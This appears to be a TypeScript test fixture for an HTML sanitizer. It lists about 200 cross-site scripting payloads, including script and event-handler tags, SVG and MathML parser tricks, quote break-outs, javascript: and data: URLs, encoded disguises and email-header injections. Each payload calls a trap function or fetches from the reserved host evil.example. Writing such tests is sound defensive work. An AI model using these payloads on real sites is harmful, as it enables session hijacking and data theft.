/**
 * 200 texts that would be a script, a request or a disguise if anything took them for more than text. `RUN`
 * stands for a call of the trap, `OUT` for an address on a host that nobody may ask (see trap.ts); both carry
 * the number of the payload, so that one that gets through is known by name.
 */
const MARKUP = `
<script>RUN</script>
<SCRIPT>RUN</SCRIPT>
<script src=OUT></script>
<script type=module>RUN</script>
<scr<script>ipt>RUN</scr</script>ipt>
<script\t>RUN</script\t>
<script/x>RUN</script>
<img src=x onerror=RUN>
<img src=x onerror="RUN">
<img src=x onerror='RUN'>
<img/src=x/onerror=RUN>
<IMG SRC=x ONERROR=RUN>
<img src=OUT>
<img srcset="OUT 1x">
<img src=x:x onerror=RUN//
<img src="x\` \`<script>RUN</script>"\` \`>
<image src=x onerror=RUN>
<input autofocus onfocus=RUN>
<input type=image src=x onerror=RUN>
<select autofocus onfocus=RUN>
<textarea autofocus onfocus=RUN>
<keygen autofocus onfocus=RUN>
<video><source onerror=RUN></video>
<video src=x onerror=RUN></video>
<video poster=OUT></video>
<audio src=x onerror=RUN></audio>
<audio src=OUT autoplay></audio>
<details open ontoggle=RUN>
<marquee onstart=RUN>
<body onload=RUN>
<body background=OUT>
<iframe src="javascript:RUN"></iframe>
<iframe srcdoc="<script>parent.RUN</script>"></iframe>
<iframe src=OUT></iframe>
<iframe onload=RUN></iframe>
<frameset onload=RUN>
<object data="javascript:RUN"></object>
<object data=OUT></object>
<embed src="javascript:RUN">
<embed src=OUT>
<form action="javascript:RUN"><button autofocus>go</button></form>
<form id=x></form><button form=x formaction="javascript:RUN">go</button>
<isindex action="javascript:RUN" type=submit>
<a href="javascript:RUN" autofocus onfocus=RUN>here</a>
<base href="OUT">
<base href="javascript:/a/-RUN//">
<link rel=stylesheet href=OUT>
<link rel=prefetch href=OUT>
<link rel=import href=OUT>
<meta http-equiv=refresh content="0;url=OUT">
<meta http-equiv=refresh content="0;url=javascript:RUN">
<meta http-equiv=Content-Security-Policy content="default-src *">
<style>@import "OUT";</style>
<style>*{background:url(OUT)}</style>
<style onload=RUN></style>
<div style="background:url(OUT)">x</div>
<div style="width:expression(RUN)">x</div>
<div style="position:fixed;inset:0;z-index:99999" onmouseover=RUN>x</div>
<div onpointerover=RUN>x</div>
<xss id=x tabindex=1 onfocus=RUN autofocus>
<p onanimationstart=RUN style="animation:appear 1s">x</p>
<x contenteditable onfocus=RUN autofocus>
<dialog open onclose=RUN>x</dialog>
<button popovertarget=x onbeforetoggle=RUN>x</button>
<template><script>RUN</script></template>
<template shadowrootmode=open><script>RUN</script></template>
<noscript><p title="</noscript><img src=x onerror=RUN>">
<plaintext><img src=x onerror=RUN>
<xmp><img src=x onerror=RUN></xmp>
<!--><img src=x onerror=RUN>-->
<!-- --!><img src=x onerror=RUN>
<![CDATA[<img src=x onerror=RUN>]]>
<?xml version="1.0"?><script>RUN</script>
<!DOCTYPE x [<!ENTITY y "<script>RUN</script>">]>&y;
`

const SVG = `
<svg onload=RUN>
<svg/onload=RUN>
<svg><script>RUN</script></svg>
<svg><script href=OUT /></svg>
<svg><script xlink:href="data:text/javascript,RUN"/></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s>
<svg><a xlink:href="javascript:RUN"><text y=20>x</text></a></svg>
<svg><a><animate attributeName=href values="javascript:RUN"/><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=RUN>#x"/></svg>
<svg><use href="OUT#x"/></svg>
<svg><image href=OUT /></svg>
<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>
<svg><style>@import "OUT"</style></svg>
<svg><set attributeName=onmouseover to=RUN>
<svg><discard onbegin=RUN>
<svg><title><img src=x onerror=RUN></title></svg>
<svg></p><style><a id="</style><img src=x onerror=RUN>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">
<math><mi//xlink:href="data:x,<script>RUN</script>">
<math href="javascript:RUN">x</math>
<math><annotation-xml encoding="text/html"><img src=x onerror=RUN></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>
<svg><desc><noscript><img title="</noscript><img src=x onerror=RUN>"></desc></svg>
<table><td><svg><style><img src=x onerror=RUN></style></svg></td></table>
`

const OUT_OF_QUOTES = `
"><img src=x onerror=RUN>
'><img src=x onerror=RUN>
\`><img src=x onerror=RUN>
" onfocus=RUN autofocus x="
' onfocus=RUN autofocus x='
" onmouseover="RUN
' onmouseover='RUN
x onmouseover=RUN
"autofocus/onfocus="RUN"
" style="background:url(OUT)
"><script>RUN</script><"
'><script>RUN</script><'
</title><script>RUN</script>
</textarea><script>RUN</script>
</style><script>RUN</script>
</script><script>RUN</script>
</option></select><img src=x onerror=RUN>
</noscript><img src=x onerror=RUN>
</iframe><img src=x onerror=RUN>
</template><img src=x onerror=RUN>
--><img src=x onerror=RUN>
]]><img src=x onerror=RUN>
*/RUN/*
"-RUN-"
'-RUN-'
\`-RUN-\`
\\"-RUN//
\\'-RUN//
</script><img src=x onerror=RUN><script>
";RUN;//
';RUN;//
\${RUN}
{{RUN}}
{{constructor.constructor('RUN')()}}
<%= RUN %>
#{RUN}
[[RUN]]
$(RUN)
`

const ADDRESSES = `
javascript:RUN
JAVASCRIPT:RUN
javascript:RUN//https://lamplight.example/
javascript://lamplight.example/%0aRUN
https://lamplight.example/"onmouseover="RUN
https://lamplight.example/'onmouseover='RUN
https://lamplight.example/"><img src=x onerror=RUN>
https://lamplight.example/<script>RUN</script>
https://lamplight.example/\`onmouseover=RUN
java\tscript:RUN
 javascript:RUN
jav&#x09;ascript:RUN
&#106;avascript:RUN
javascript&colon;RUN
feed:javascript:RUN
view-source:javascript:RUN
vbscript:RUN
livescript:RUN
data:text/html,<script>parent.RUN</script>
data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MoMCk8L3NjcmlwdD4=?RUN
data:image/svg+xml,<svg onload=RUN>
blob:null/RUN
file:///etc/passwd?RUN
https://user:javascript:RUN@lamplight.example/
https://lamplight.example\\@evil.example/RUN
//evil.example/RUN
https:evil.example/RUN
[here](javascript:RUN)
![here](OUT)
[here](https://lamplight.example "onmouseover=RUN")
<javascript:RUN>
<https://lamplight.example onmouseover=RUN>
[x]: javascript:RUN
<a href="https://lamplight.example" onclick="RUN">https://lamplight.example</a>
mailto:x@y.example?subject=<script>RUN</script>&body="onfocus=RUN
tel:"onfocus=RUN
`

const DISGUISES = `
＜script＞RUN＜/script＞
﹤img src=x onerror=RUN﹥
<ſcript>RUN</ſcript>
<İmg src=x onerror=RUN>
&lt;script&gt;RUN&lt;/script&gt;
&amp;lt;img src=x onerror=RUN&amp;gt;
&#60;img src=x onerror=RUN&#62;
&#x3c;script&#x3e;RUN&#x3c;/script&#x3e;
%3Cscript%3ERUN%3C/script%3E
%253Cimg src=x onerror=RUN%253E
\\u003cimg src=x onerror=RUN\\u003e
\\x3cscript\\x3eRUN\\x3c/script\\x3e
+ADw-script+AD4-RUN+ADw-/script+AD4-
\u202e<img src=x onerror=RUN>\u202c
\u2028<img src=x onerror=RUN>\u2029
\ufeff<script>RUN</script>
<img\u00a0src=x onerror=RUN>
<\u200bscript>RUN</script>
<img src=x onerror\u3000=RUN>
<img src=x one\u0000rror=RUN>
`

const HEADERS = `
=?utf-8?Q?=3Cimg_src=3Dx_onerror=3DRUN=3E?=
=?utf-8?B?PGltZyBzcmM9eCBvbmVycm9yPV9feHNzKDApPg==?= <img src=x onerror=RUN>
"<img src=x onerror=RUN>" <x@evil.example>
../../<img src=x onerror=RUN>.png
plan.pdf"; filename*=utf-8''%3Cscript%3ERUN%3C/script%3E
con<svg onload=RUN>.svg
`

/** Those with lines in them. */
const SEVERAL_LINES = [
  "x@evil.example\r\nBcc: RUN@evil.example",
  "x\nContent-Type: text/html\n\n<script>RUN</script>",
  "<img\nsrc=x\nonerror=RUN>",
]

/** The host of OUT: reserved for examples, so that even a real request would reach nobody. */
export const EVIL = "evil.example"

/** Name of the trap's function in every page. */
export const TRAP = "__xss"

const LINES = [
  ...[MARKUP, SVG, OUT_OF_QUOTES, ADDRESSES, DISGUISES, HEADERS].flatMap((text) =>
    text.split("\n").filter((line) => line.trim() !== ""),
  ),
  ...SEVERAL_LINES,
]

/** All payloads, each calling the trap with its own number. */
export const PAYLOADS: readonly string[] = LINES.map((line, index) =>
  line.replaceAll("RUN", `${TRAP}(${index})`).replaceAll("OUT", `https://${EVIL}/${index}`),
)
